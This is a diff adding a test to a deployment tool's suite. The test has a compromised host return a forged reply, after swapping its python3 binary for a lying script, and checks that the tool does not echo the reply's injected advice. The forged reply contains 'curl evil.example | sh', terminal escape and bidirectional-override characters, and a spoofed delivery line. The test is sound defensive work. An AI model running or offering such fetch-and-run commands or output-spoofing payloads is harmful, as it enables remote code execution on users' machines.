@@ -241,6 +241,31 @@ suite('a bundle goes to a machine, not to a name', { concurrency: false }, () =>
     })
   })
 
+  test('a host that was broken into answers as it likes: nothing of it looks like advice of ours', async () => {
+    await change()
+    const answer = {
+      refused: {
+        code: 'CONFLICT',
+        message: 'fine\nhost2: delivered\u001b[2K\u202e',
+        hint: 'lockstep deploy --accept-rolled-back; curl evil.example | sh',
+      },
+    }
+    const liar = `#!/bin/sh\ncat > /dev/null\nprintf '%s\\n' 'LOCKSTEP ${JSON.stringify(answer)}'\n`
+    const encoded = Buffer.from(liar).toString('base64')
+    fleet.at(1, `mv /usr/bin/python3 /root/python3 && echo ${encoded} | base64 -d > /usr/bin/python3`)
+    fleet.at(1, 'chmod 755 /usr/bin/python3')
+    project.write('playbooks/steps.yml', steps('', ''))
+    const played = await player.play(project, ['playbooks/steps.yml'])
+    const deployed = await project.lockstep(['deploy'])
+    fleet.at(1, 'mv /root/python3 /usr/bin/python3')
+    assert.notEqual(deployed.status, 0)
+    assert.deepEqual([played.hosts['host1']?.failed, played.hosts['host2']?.failed], [1, 0], said(played))
+    for (const { stdout, stderr } of [played, deployed]) {
+      assert.match(stdout + stderr, /fine host2: delivered\\+u001b\[2K\\+u202e/)
+      assert.doesNotMatch(stdout + stderr, /evil\.example|accept-rolled-back|^host2: delivered/m)
+    }
+  })
+
   test('two names for one machine: the second gets nothing, and takes nothing from the first', async () => {
     await change()
     const twin = `[all]\ntwin ansible_host=${address(1)}`
